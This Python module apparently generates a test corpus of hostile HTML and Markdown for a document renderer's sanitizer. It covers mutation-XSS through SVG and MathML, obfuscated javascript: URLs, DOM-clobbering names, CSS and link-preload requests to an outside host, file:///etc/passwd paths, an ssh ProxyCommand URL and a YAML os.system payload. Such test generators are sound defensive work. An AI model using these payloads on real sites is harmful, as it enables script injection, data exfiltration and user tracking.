"""Hostile texts that are new in kind: names that shadow a document, places of our own, foreign content, odd addresses.

`{code}` and `{outside}` are filled by `payloads`.
"""

from collections.abc import Iterator
from itertools import cycle, product

_IMAGE = "<img src=x onerror={code}>"

_POINTS = (
    ("svg", "desc"),
    ("svg", "title"),
    ("svg", "foreignObject"),
    ("math", "mi"),
    ("math", "ms"),
    ("math", "mtext"),
    ("math", "annotation-xml encoding=text/html"),
    ("math", "annotation-xml encoding='application/xhtml+xml'"),
)
"""Where foreign content lets HTML in again."""
_THROUGH = (
    "<{space}><{point}><style><!--</style>{image}--></style></{end}></{space}>",
    '<{space}><{point}><p></{end}></{space}><style><a title="</style>{image}">',
    "<{space}><{point}><table></{end}><{space}><style>{image}</style></table></{space}>",
    "<{space}></p><{point}><mglyph><malignmark><style><a title='</style>{image}'>",
)
_RAW = "noscript noframes noembed iframe xmp title textarea style script plaintext".split()
_AROUND = (
    "<div><{raw} x='</{raw}>{image}'></{raw}>x</div>",
    "<svg><{raw}>&lt;/{raw}&gt;&lt;img src=x onerror={code}&gt;</{raw}></svg>",
    "<math><{raw}><!--</{raw}>{image}--></{raw}></math>",
    "<template><{raw}></template>{image}</{raw}>",
    "<select><{raw}></select>{image}</{raw}>",
)
_DEPTHS = (1, 100, 254, 255, 256, 257, 512)
_FOREIGN = (
    "<a><svg><a><desc></a></desc><style><!--</style>{image}-->",
    "<table><form><svg></table></form><style><a id='</style>{image}'>",
    "<svg></br><p><style><!--</style>{image}-->",
    "<svg><font color=red><style><a title='</style>{image}'>",
    "<math></p><br></math><style>*{{x:'</style>{image}'}}",
    "<colgroup><template><col><svg></template></colgroup>{image}",
    "<select><button><selectedcontent></selectedcontent></button><option selected><svg><style><!--</style>{image}-->",
    "<svg xmlns:xlink='{outside}' xml:base='{outside}/'><a xlink:href='javascript:{code}'><circle r=400 /></a></svg>",
    "<svg><handler ev:event=load>{code}</handler><discard onbegin={code}></discard></svg>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{code}</html:script><svg:svg onload={code}>",
    "<svg xmlns='http://www.w3.org/1999/xhtml'><script>{code}</script></svg>",
    "<a xmlns='http://www.w3.org/2000/svg' xlink:href='javascript:{code}'>x</a>",
    "<math><mspace width=9999em height=9999em></math><svg style=position:fixed width=9999 height=9999></svg>",
)

_NAMES = (
    "desk main article body head documentElement querySelector querySelectorAll createElement createRange"
    " createTextNode createTreeWalker createDocumentFragment elementFromPoint caretRangeFromPoint getElementById"
    " getSelection addEventListener images forms location title defaultView adoptedStyleSheets childNodes attributes"
    " nodeName parentElement textContent innerHTML ownerDocument isConnected remove before closest contains"
    " desk-writing previewPage window self top frames length __proto__ constructor toJSON Node ResizeObserver"
).split()
"""What a script of ours would ask a document or an element for."""
_NAMED = (
    "<img name={name} id={name} src=a.png>",
    "<form name={name}><input name={name}><input id={name}></form>",
    "<a id={name}></a><a id={name} name=put href=x>x</a>",
    "<iframe name={name}></iframe><object id={name} name={name}></object><embed name={name}>",
    "<p id={name} name={name} class={name} slot={name} part={name} is={name}>x</p>",
    "# x {{#{name}}}",
    "<sup id='fnref:{name}'>x</sup><p id='fn:{name}\" onclick={code} x=\"'>x</p>",
)

_PLACES = (
    *("desk:header", "desk:box", "desk:blocks", "desk:footer", "desk:article", "desk:blocks-->", "wp:html", "/wp:html"),
    *("wp:shortcode", "kg-card-begin: html", "members-only", "[if gte mso 9]>"),
)
_COMMENTS = (
    *("<!-->", "<!--->", "<!--->-->", "<!----!>", "<!--x--!>", "<!-- --x>", "<!---- ->", "<!-", "<!--<!---->"),
    *("<!--<!-- -->-->", "<!--\x00-->", "</!-- -->", "<%-- --%>", "<!--#include file=x-->", "<?x ?>>", "</?>"),
    *("<![if !IE]>", "<!ELEMENT x>", "--><!--", "]]>", "<![CDATA[ ]]]]><![CDATA[>"),
)

_BETWEEN = (
    *(
        "\x00",
        "\x08",
        "\x0b",
        "\x1b",
        "\x7f",
        "\x85",
        "\xa0",
        "\u1680",
        "\u180e",
        "\u200c",
        "\u2060",
        "\u3000",
        "\ufff9",
    ),
    *("\U000e0001", "&#0;", "&#1;", "&#x1F;", "&#8232;", "&ZeroWidthSpace;", "&shy;", "%00", "\\x6a"),
)
_DISGUISES = (
    '<a href="{sign}javascript:{code}">x</a>',
    "<a href='java{sign}script:{code}'>x</a>",
    "[x](<javascript{sign}:{code}>)",
    "[x][z]\n\n[z]: j{sign}a{sign}vascript{sign}:{code}",
    "<a href=java{sign}script:{code}>x</a>",
)
_ELSEWHERE = (
    *(
        "ｊavascript:{code}",
        "javа\u0455cript:{code}",
        "javaſcript:{code}",
        "java\u0131script:{code}",
        "javascript+http:{code}",
    ),
    *("//outside.invalid/x", "/\\outside.invalid", "https:outside.invalid", "http:\\\\outside.invalid"),
    *("https://user:pass@outside.invalid", "RDESK://style/", "rdesk:page", "rdesk://image/%2e%2e/page/"),
    *("DATA:image/svg+xml;base64,PHN2Zy8+", "data:;base64,", "file://localhost/etc/passwd", "smb://outside.invalid"),
    *(
        "about:srcdoc",
        "blob:null/x",
        "chrome-extension://x/y",
        "search-ms:query=x",
        "web+x:y",
        "ssh://-oProxyCommand=x/",
    ),
)

_STYLES = (
    "background:u\\72l({outside}/a)",
    "b\\61ckground:url\\28{outside}/a\\29",
    "background:image-set('{outside}/a' 1x)",
    "--x:url({outside}/a);background:var(--x)",
    "list-style:url({outside}/a);mask:url({outside}/a#x);cursor:url({outside}/a),auto",
    "text-align:center}}body{{display:none",
    "text-align:left/**/;/**/background:url({outside}/a)",
    "text-align:\nleft;\nbackground:\nurl(\n{outside}/a\n)",
    "text-align:left!important;zoom:9999",
    "text-align:var(--x,url({outside}/a))",
    "TEXT-ALIGN:LEFT;display:none!important",
)
_SHEETS = (
    "@\\69mport '{outside}/a.css'",
    "@import url({outside}/a) layer(x)",
    "@font-face{{font-family:x;src:url({outside}/f)}}*{{font-family:x}}",
    "@property --x{{syntax:'<url>';initial-value:url({outside}/a);inherits:false}}",
    "a[href^=x]{{background:url({outside}/a)}}",
)
_RELATIONS = (
    *("prefetch", "dns-prefetch", "preconnect", "prerender", "modulepreload", "preload", "icon", "manifest", "import"),
    *("'alternate stylesheet'", "expect", "compression-dictionary", "pingback", "serviceworker", "canonical"),
)

_ELEMENTS = (
    "<meta http-equiv=refresh content='0;URL=javascript:{code}'><meta http-equiv=refresh content='0,url={outside}'>",
    "<meta http-equiv=origin-trial content=x><meta http-equiv=delegate-ch content='x {outside}'><meta name=referrer>",
    "<svg><base href={outside}></svg><base href='javascript:/x/'><base target=_top href=rdesk://style/>",
    '<iframe srcdoc="&amp;lt;img src=x onerror={code}&amp;gt;"></iframe><iframe credentialless src={outside}>',
    "<controlledframe src={outside}></controlledframe><webview src={outside}></webview><fencedframe></fencedframe>",
    "<object type=text/html data=data:text/html,x><embed src={outside}></object>",
    "<map name=x><area href=javascript:{code} shape=default ping={outside}></map><img usemap=#x src=a.png>",
    '<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{outside}"]}}]}}</script>',
    '<script type=importmap>{{"imports":{{"x":"{outside}"}}}}</script><script type=webbundle>{{}}</script>',
    "<script>{code}//<!--<script></script>--></script>",
    "<input type=submit formaction=javascript:{code}><button commandfor=x command=show-modal>x</button>",
    "<input list=x><datalist id=x><option value='{image}'></datalist><form method=dialog><input type=password></form>",
    "<button popovertarget=desk-writing popovertargetaction=hide>x</button><a href=x interestfor=p>x</a>",
    "<permission type=camera></permission><geolocation></geolocation><model src={outside}></model>",
    "<desk-film>{outside}/v</desk-film><desk-film onclick={code}>https://outside.invalid/film</desk-film>",
    "<p data-desk-gone=x>x</p><del data-desk-gone=y>z</del><div class=wp-block-embed__wrapper>{outside}</div>",
)
_ATTRIBUTES = (
    "<a href=x href=javascript:{code}>x</a><a href='' HREF=javascript:{code}>x</a>",
    "<img src=x src=y onerror onerror={code}>",
    "<p class=embed class=x id=fn:a id=desk>x</p>",
    '<a title="x\n\n{image}',
    '<p title="\n\n# x\n\n">{image}',
    '<a href="x" "onclick={code}">x</a>',
    "<a =x onclick={code}>x</a>",
    "<a\u00a0onclick={code}>x</a><a\u2028onclick={code} href=x>x</a>",
    "<a href=x\x00onclick={code}>x</a>",
    "<a xml:onclick={code} @click={code} :href=x (click)={code} hx-get={outside} x-init={code}>x</a>",
    '<img/alt="/"onerror={code}/src=x>',
    '<img src="x` `<script>{code}</script>"` `>',
    "<b contenteditable draggable=true nonce=x popover inert anchor=x enterkeyhint=x virtualkeyboardpolicy=x>x</b>",
    "<table><tr><td colspan=99999999 rowspan=65534>x</td></tr></table><ol start=2147483648><li value=-9e99>x</ol>",
    "<img width='1px;position:fixed' height=100vh src=a.png>",
    "<bdo dir=rtl>\u202e x</bdo><p dir='\" onclick={code}' lang='\"><script>'>x</p>",
    "<code class='language-x\" onclick={code}'>x</code><code class='language-<script>'>x</code>",
    "<time datetime='\"><img src=x onerror={code}>'>x</time>",
)
_OURS = (
    '/// embed | {outside}/v" onclick={code} x="\nx\n///',
    "/// embed | https://www.youtube.com/embed/--><script>{code}</script>\nx\n///",
    "/// embed | https://vimeo.com/1\nx [/embed]<script>{code}</script>\n///",
    '/// also-read | "><script>{code}</script>\nx\n///',
    "/// also-read | ../../etc/passwd\nx\n///",
    "/// pull-quote\nx\n\ncite: {image}\n///",
    "/// review-box\n///\n\n/// review-box | {image}\n///",
    "![x](a.png){{: onerror={code} srcset={outside} style=position:fixed }}",
    "x[^'\"><script>{code}</script>]\n\n[^'\"><script>{code}</script>]: x",
    "*[{image}]: x\n\n{image}",
    '[x]["><script>]\n\n["><script>]: {outside} \'"><script>{code}</script>\'',
    '<{outside}/"onclick={code}> <a@b.c"onclick={code}> <mailto:a@b?subject=<script>{code}</script>>',
    "~~~ {{.x onclick={code} #desk}}\nx\n~~~",
    "| a\\|{image} | b |\n|---|---|\n| <td style=x | > |",
    "> <div>\n> {image}\n\n</div></blockquote></article>",
    "- <div>\n\n  {image}\n\n  </div></li></ul></article>",
    "1) x\n2. <script>\n\n   {code}\n\n   </script>",
    "[a<b](x>y) [<a href='](x)' onclick={code}>z</a>",
    "[![{image}](javascript:{code})](javascript:{code})",
    "\ue000{image}\uf8ff\ufdd0{image}\U0010fffd\U0010fffd{image}",
    "<p markdown=span title='*x*\"{image}'>**x**</p>",
    "<details markdown=block open ontoggle={code}>\n<summary markdown=span>{image}</summary>\n\n- x\n</details>",
    "---\nx: !!python/object/apply:os.system ['x']\n---\n{image}",
    "x\n\n{outside}/oembed\n\n[audio src={outside}] [video {outside}] [playlist] [code]{image}[/code]",
)
_REPEATED = (
    ("x <!--{part}--> y <!-- {part} -->\n\n<!--{part}-->{image}", _PLACES),
    ("<p title='{part}'>{part}</p>\n\n{part}{image}", _COMMENTS),
    ('<a href="{part}">x</a><img src="{part}" alt="q">\n\n[x](<{part}>)', _ELSEWHERE),
    (
        '<table><tr><td style="{part}">x</td></tr></table><p style="{part}">x</p><img style="{part}" src="a.png">',
        _STYLES,
    ),
    ("<style>{part}</style><svg><style>{part}</style></svg>", _SHEETS),
    ("<link rel={part} href='{outside}/l' as=script onload={code}>", _RELATIONS),
)


def kinds() -> Iterator[str]:
    """Give them all, still to be filled."""
    for shape in _shapes():
        yield shape.replace("{image}", _IMAGE)


def _shapes() -> Iterator[str]:
    for (space, point), shape in product(_POINTS, _THROUGH):
        yield _put(shape, space=space, point=point, end=point.split()[0])
    yield from (_put(shape, raw=raw) for raw, shape in product(_RAW, _AROUND))
    yield from (_put(shape, name=name) for name, shape in zip(_NAMES, cycle(_NAMED), strict=False))
    yield from (_put(shape, name=name) for name, shape in product(_NAMES[:2], _NAMED))
    yield from (_put(shape, sign=sign) for sign, shape in zip(_BETWEEN, cycle(_DISGUISES), strict=False))
    for depth in _DEPTHS:
        yield "<b>" * depth + "<svg><style><a title='</style>{image}'>" + "</b>" * depth
    for shape, parts in _REPEATED:
        yield from (_put(shape, part=part) for part in parts)
    yield from (*_FOREIGN, *_ELEMENTS, *_ATTRIBUTES, *_OURS)


def _put(shape: str, **parts: str) -> str:
    """Put these parts in, and leave what is to be filled later."""
    for name, part in parts.items():
        shape = shape.replace(f"{{{name}}}", part)
    return shape
